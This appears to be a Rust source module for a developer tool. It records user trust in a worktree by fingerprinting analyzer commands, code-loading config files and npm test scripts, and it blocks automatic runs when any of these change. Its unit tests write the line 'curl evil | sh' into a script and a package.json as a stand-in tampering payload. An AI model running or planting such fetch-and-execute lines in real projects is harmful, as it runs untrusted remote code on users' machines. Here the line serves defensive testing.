//! Trust, after direnv: work nobody asked for in that moment (hook-,
//! watch-, cron- and idle-triggered runs) happens only in a worktree the
//! user trusted, because almost every analyzer can run repository code
//! (test runners run it; eslint and pylint load config and plugins from the
//! repository). Explicit commands (`bgtask run`, `bgtask submit`) need none.
//!
//! What is trusted is, per task, the *executable parts* of what it would
//! run: each analyzer's command, alternatives, arguments and environment;
//! a command that is a file in the repository (`./bin/check.sh`), by
//! content; the tool config files that make a tool load or run code
//! (`eslint.config.js`, `conftest.py`, `.pylintrc`, `pyproject.toml`,
//! `mvnw`, `gradle-wrapper.properties`, `.cargo/config.toml`, …); and for
//! `npm run test`, the `test` scripts of `package.json`. A change to any of
//! them (a `git pull`, say) blocks that task alone until `bgtask trust`;
//! `bgtask trust --diff` shows the change.
//!
//! Records live outside the repository, in `$XDG_DATA_HOME/bgtask/trust/`
//! (`BGTASK_DATA_DIR` overrides), one file per worktree.
//! `CI=true` (or a daemon started with `--trust`) skips the check.

use std::collections::BTreeMap;
use std::path::{Path, PathBuf};

use serde::{Deserialize, Serialize};

use crate::analyze::Engine;
use crate::config::Config;

/// Files that make a tool run code from the repository, by the name the
/// analyzer's command goes by.
const CODE_LOADING: &[(&str, &[&str])] = &[
    (
        "eslint",
        &[
            "eslint.config.js",
            "eslint.config.mjs",
            "eslint.config.cjs",
            "eslint.config.ts",
            "eslint.config.mts",
            "eslint.config.cts",
        ],
    ),
    (
        "pylint",
        &[
            ".pylintrc",
            "pylintrc",
            "pyproject.toml",
            "setup.cfg",
            "tox.ini",
        ],
    ),
    (
        "pytest",
        &[
            "conftest.py",
            "pytest.ini",
            "pyproject.toml",
            "setup.cfg",
            "tox.ini",
        ],
    ),
    (
        "cargo",
        &[
            ".cargo/config.toml",
            ".cargo/config",
            "rust-toolchain.toml",
            "rust-toolchain",
        ],
    ),
    (
        "./mvnw",
        &[
            "mvnw",
            ".mvn/wrapper/maven-wrapper.properties",
            ".mvn/maven.config",
        ],
    ),
    ("mvn", &[".mvn/maven.config", ".mvn/extensions.xml"]),
    (
        "./gradlew",
        &["gradlew", "gradle/wrapper/gradle-wrapper.properties"],
    ),
    ("python", &["conftest.py", "setup.cfg", "pyproject.toml"]),
];

/// The executable parts of each task, as readable lines.
#[derive(Debug, Clone, Default, PartialEq, Eq, Serialize, Deserialize)]
pub struct Fingerprint {
    pub tasks: BTreeMap<String, Vec<String>>,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
pub struct Record {
    pub root: PathBuf,
    pub trusted_at_ms: i64,
    pub tasks: BTreeMap<String, Vec<String>>,
}

/// Whether a task may run automatically.
#[derive(Debug, Clone, PartialEq, Eq, Serialize)]
#[serde(rename_all = "snake_case", tag = "state")]
pub enum TaskTrust {
    Trusted,
    /// The worktree (or this task) was never trusted.
    Untrusted,
    /// Trusted once; these lines changed since (`-` old, `+` new).
    Changed {
        diff: Vec<String>,
    },
}

fn short_hash(bytes: &[u8]) -> String {
    blake3::hash(bytes).to_hex()[..16].to_owned()
}

fn file_line(root: &Path, rel: &str) -> Option<String> {
    let bytes = std::fs::read(root.join(rel)).ok()?;
    Some(format!("file {rel} {}", short_hash(&bytes)))
}

/// The `test`-related scripts of `package.json`, which `npm run test` runs.
fn npm_scripts(root: &Path) -> Option<String> {
    let text = std::fs::read_to_string(root.join("package.json")).ok()?;
    let json: serde_json::Value = serde_json::from_str(&text).ok()?;
    let scripts = json.get("scripts")?.as_object()?;
    let picked: BTreeMap<&str, &serde_json::Value> = scripts
        .iter()
        .filter(|(k, _)| matches!(k.as_str(), "pretest" | "test" | "posttest"))
        .map(|(k, v)| (k.as_str(), v))
        .collect();
    Some(format!(
        "package.json scripts {}",
        serde_json::to_string(&picked).ok()?
    ))
}

/// What each enabled task would run, now.
pub fn fingerprint(config: &Config, root: &Path) -> Fingerprint {
    let mut tasks = BTreeMap::new();
    for task in config.tasks.values() {
        let mut lines = Vec::new();
        for name in &task.analyzers {
            let Some(def) = config.analyzers.get(name) else {
                continue;
            };
            let Engine::External(spec) = &def.engine else {
                continue;
            };
            lines.push(format!(
                "analyzer {name}: command {} {}",
                serde_json::to_string(&spec.command).unwrap_or_default(),
                serde_json::to_string(&spec.args).unwrap_or_default(),
            ));
            if !spec.alternatives.is_empty() {
                lines.push(format!(
                    "analyzer {name}: alternatives {}",
                    serde_json::to_string(&spec.alternatives).unwrap_or_default()
                ));
            }
            if !spec.env.is_empty() {
                lines.push(format!(
                    "analyzer {name}: env {}",
                    serde_json::to_string(&spec.env).unwrap_or_default()
                ));
            }
            for cmd in std::iter::once(&spec.command).chain(&spec.alternatives) {
                if cmd.contains('/') && !Path::new(cmd).is_absolute() {
                    lines.extend(file_line(root, cmd.trim_start_matches("./")));
                }
                let files = CODE_LOADING
                    .iter()
                    .filter(|(c, _)| c == cmd)
                    .flat_map(|(_, files)| files.iter());
                for f in files {
                    lines.extend(file_line(root, f));
                }
            }
            if spec.command == "npm" && spec.args.iter().any(|a| a == "test") {
                lines.extend(npm_scripts(root));
            }
        }
        lines.sort();
        lines.dedup();
        tasks.insert(task.name.clone(), lines);
    }
    Fingerprint { tasks }
}

/// `BGTASK_DATA_DIR`, else `$XDG_DATA_HOME/bgtask`, else `~/.local/share/bgtask`.
pub fn data_dir() -> PathBuf {
    if let Some(d) = std::env::var_os("BGTASK_DATA_DIR").filter(|d| !d.is_empty()) {
        return PathBuf::from(d);
    }
    if let Some(d) = std::env::var_os("XDG_DATA_HOME").filter(|d| !d.is_empty()) {
        return PathBuf::from(d).join("bgtask");
    }
    let home = std::env::var_os("HOME").map_or_else(std::env::temp_dir, PathBuf::from);
    home.join(".local").join("share").join("bgtask")
}

fn record_path(root: &Path) -> PathBuf {
    let canonical = root.canonicalize().unwrap_or_else(|_| root.to_owned());
    let key = short_hash(canonical.as_os_str().as_encoded_bytes());
    data_dir().join("trust").join(format!("{key}.json"))
}

pub fn load(root: &Path) -> Option<Record> {
    let text = std::fs::read_to_string(record_path(root)).ok()?;
    serde_json::from_str(&text).ok()
}

/// Records `fp` as trusted for the worktree at `root`; returns the file.
pub fn save(root: &Path, fp: &Fingerprint) -> std::io::Result<PathBuf> {
    let path = record_path(root);
    let dir = path.parent().expect("a record has a directory");
    std::fs::create_dir_all(dir)?;
    let record = Record {
        root: root.canonicalize().unwrap_or_else(|_| root.to_owned()),
        trusted_at_ms: crate::store::now_ms(),
        tasks: fp.tasks.clone(),
    };
    let mut tmp = tempfile::NamedTempFile::new_in(dir)?;
    serde_json::to_writer_pretty(&mut tmp, &record).map_err(std::io::Error::other)?;
    tmp.persist(&path).map_err(|e| e.error)?;
    Ok(path)
}

/// Forgets the worktree's trust; whether there was any.
pub fn revoke(root: &Path) -> std::io::Result<bool> {
    match std::fs::remove_file(record_path(root)) {
        Ok(()) => Ok(true),
        Err(e) if e.kind() == std::io::ErrorKind::NotFound => Ok(false),
        Err(e) => Err(e),
    }
}

/// The check is skipped in CI (`CI=true`).
pub fn skipped_by_env() -> bool {
    std::env::var("CI").is_ok_and(|v| v == "true" || v == "1")
}

/// Each task's trust, comparing what it would run now with the record.
pub fn evaluate(fp: &Fingerprint, record: Option<&Record>) -> BTreeMap<String, TaskTrust> {
    fp.tasks
        .iter()
        .map(|(task, now)| {
            let state = match record.and_then(|r| r.tasks.get(task)) {
                None => TaskTrust::Untrusted,
                Some(then) if then == now => TaskTrust::Trusted,
                Some(then) => TaskTrust::Changed {
                    diff: diff(then, now),
                },
            };
            (task.clone(), state)
        })
        .collect()
}

fn diff(then: &[String], now: &[String]) -> Vec<String> {
    let mut out: Vec<String> = then
        .iter()
        .filter(|l| !now.contains(l))
        .map(|l| format!("- {l}"))
        .collect();
    out.extend(
        now.iter()
            .filter(|l| !then.contains(l))
            .map(|l| format!("+ {l}")),
    );
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    fn config(root: &Path, text: &str) -> Config {
        crate::config::from_text(&root.join(crate::config::CONFIG_FILE), text).unwrap()
    }

    #[test]
    fn a_changed_executable_part_blocks_only_its_task() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        std::fs::create_dir(root.join("bin")).unwrap();
        std::fs::write(root.join("bin/check.sh"), "#!/bin/sh\necho one\n").unwrap();
        std::fs::write(root.join("eslint.config.js"), "export default [];\n").unwrap();
        let text = r#"{
          "tasks": {
            "lint": {"analyzers": ["eslint"]},
            "mine": {"analyzers": ["check"]},
            "profile": {"analyzers": ["profile"]}
          },
          "analyzers": {"check": {"command": "./bin/check.sh", "mode": "project", "parser": "exit-code"}}
        }"#;
        let fp = fingerprint(&config(root, text), root);
        assert!(fp.tasks["profile"].is_empty(), "built-in code runs nothing");
        assert!(
            fp.tasks["mine"]
                .iter()
                .any(|l| l.starts_with("file bin/check.sh ")),
            "{:?}",
            fp.tasks["mine"]
        );
        assert!(
            fp.tasks["lint"]
                .iter()
                .any(|l| l.starts_with("file eslint.config.js "))
        );
        let record = Record {
            root: root.to_owned(),
            trusted_at_ms: 0,
            tasks: fp.tasks.clone(),
        };
        let all = evaluate(&fp, Some(&record));
        assert!(all.values().all(|t| *t == TaskTrust::Trusted));
        assert!(
            evaluate(&fp, None)
                .values()
                .all(|t| *t == TaskTrust::Untrusted)
        );

        std::fs::write(root.join("bin/check.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
        let now = evaluate(&fingerprint(&config(root, text), root), Some(&record));
        assert_eq!(now["lint"], TaskTrust::Trusted);
        assert_eq!(now["profile"], TaskTrust::Trusted);
        let TaskTrust::Changed { diff } = &now["mine"] else {
            panic!("{now:?}")
        };
        assert_eq!(diff.len(), 2, "{diff:?}");
        assert!(diff[0].starts_with("- file bin/check.sh"));
        assert!(diff[1].starts_with("+ file bin/check.sh"));

        let changed_args = text.replace(
            r#""parser": "exit-code""#,
            r#""parser": "exit-code", "args": ["--all"]"#,
        );
        let now = evaluate(
            &fingerprint(&config(root, &changed_args), root),
            Some(&record),
        );
        assert!(matches!(now["mine"], TaskTrust::Changed { .. }));
        assert_eq!(now["lint"], TaskTrust::Trusted);
    }

    #[test]
    fn npm_test_trusts_the_test_scripts_not_the_whole_manifest() {
        let dir = tempfile::tempdir().unwrap();
        let root = dir.path();
        let text = r#"{"tasks": {"tests": {"analyzers": ["npm-test"]}}}"#;
        std::fs::write(
            root.join("package.json"),
            r#"{"version": "1.0.0", "scripts": {"test": "node t.js"}}"#,
        )
        .unwrap();
        let before = fingerprint(&config(root, text), root);
        std::fs::write(
            root.join("package.json"),
            r#"{"version": "1.0.1", "scripts": {"test": "node t.js", "build": "x"}}"#,
        )
        .unwrap();
        assert_eq!(fingerprint(&config(root, text), root), before);
        std::fs::write(
            root.join("package.json"),
            r#"{"scripts": {"test": "curl evil | sh"}}"#,
        )
        .unwrap();
        assert_ne!(fingerprint(&config(root, text), root), before);
    }
}
